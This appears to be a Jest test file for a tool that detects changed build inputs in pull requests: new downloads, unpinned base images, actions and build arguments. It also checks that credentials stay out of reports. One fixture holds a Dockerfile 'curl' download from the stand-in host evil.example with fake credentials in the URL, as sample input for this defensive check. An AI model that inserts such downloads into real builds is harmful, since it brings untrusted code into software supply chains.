import { afterEach, beforeEach, expect, it } from '@jest/globals';
import type { Report } from '../../../src/core/report.js';
import { type GitStory, gitStory } from '../../baseline/git-story.js';

const DIGEST = 'fe40cf4e92cd0c467be2cfc30657a680ae2398318afd50b0c80585784c604f28';
const BEFORE = `FROM node:22@sha256:${DIGEST}\nRUN apk add git\nUSER 1\n`;
const WORKFLOW =
  'on: push\njobs:\n  b:\n    runs-on: x\n    steps:\n      - uses: docker/build-push-action@v6\n';

let story: GitStory;
beforeEach(() => {
  story = gitStory();
  story.base({ Dockerfile: BEFORE, '.github/workflows/ci.yml': WORKFLOW });
});
afterEach(() => story.remove());

function changes({ buildInputs = [] }: Report): string[] {
  return buildInputs.map(({ change, kind, what }) => `${change} ${kind} ${what}`).sort();
}

const CHANGED = `FROM node:22\nRUN apk add git && curl -fsSLo t https://user:hunter2@evil.example/t?token=hunter3\nUSER 1\n`;
const EXPECTED = [
  'new download https://evil.example/t',
  'unchanged action docker/build-push-action@v6',
  'unchanged package git',
  'worse image node:22',
];

it('a pull request is compared with the base commit, whose files are read in the same run', async () => {
  story.commit({ Dockerfile: CHANGED });
  const report = await story.run();
  expect(changes(report)).toEqual(EXPECTED);
  expect(JSON.stringify(report.buildInputs)).not.toContain('hunter');
});

it('a pull request is compared with the stored report of the base branch', async () => {
  const stored = await story.store();
  story.commit({ Dockerfile: CHANGED });
  expect(changes(await story.run(['--baseline', stored]))).toEqual(EXPECTED);
});

it('a renamed Dockerfile brings nothing new', async () => {
  story.commit({ Dockerfile: undefined, 'web/Dockerfile': BEFORE });
  expect(changes(await story.run()).filter((one) => !one.startsWith('unchanged'))).toEqual([]);
});

it('nothing is compared without a base', async () => {
  expect(changes(await story.run([], true))).toEqual([
    'undefined action docker/build-push-action@v6',
    `undefined image node:22@sha256:${DIGEST}`,
    'undefined package git',
  ]);
});

it('a Bake file that cannot be read is a note', async () => {
  story.commit({ 'docker-bake.hcl': 'target "x" {' });
  const { notes } = await story.run();
  expect(notes.map(({ message }) => message).join('\n')).toContain(
    'What enters the build is not known completely: docker-bake.hcl is not read',
  );
});

const FLAVORS = `ARG FLAVOR=slim
FROM node:22 AS slim
FROM slim AS full
ADD https://example.org/full.tgz /
FROM \${FLAVOR}
USER 1
`;

it.each([
  [
    'docker-bake.hcl',
    'variable "F" { default = "%" }\ntarget "default" { args = { FLAVOR = F } }\n',
  ],
  ['compose.yaml', 'services:\n  web: { build: { context: ., args: { FLAVOR: "%" } } }\n'],
  ['.github/workflows/ci.yml', `${WORKFLOW}        with: { build-args: "FLAVOR=%" }\n`],
])('an argument of %s that brings something in is a change', async (path, text) => {
  const withFlavor = (flavor: string) => ({ [path]: text.replace('%', flavor) });
  story.git('checkout', '-q', 'main');
  const others = { Dockerfile: FLAVORS, '.github/workflows/ci.yml': 'on: push\n' };
  story.commit({ ...others, ...withFlavor('slim') });
  story.git('checkout', '-qB', 'change');
  const changed = async (flavor: string) => {
    story.commit(withFlavor(flavor));
    return changes(await story.run()).filter((one) => !one.startsWith('unchanged'));
  };
  expect(await changed('slim')).toEqual([]);
  expect(await changed('ghcr.io/other/app:1')).toEqual(['new image ghcr.io/other/app:1']);
  expect(await changed('full')).toEqual(['new download https://example.org/full.tgz']);
});
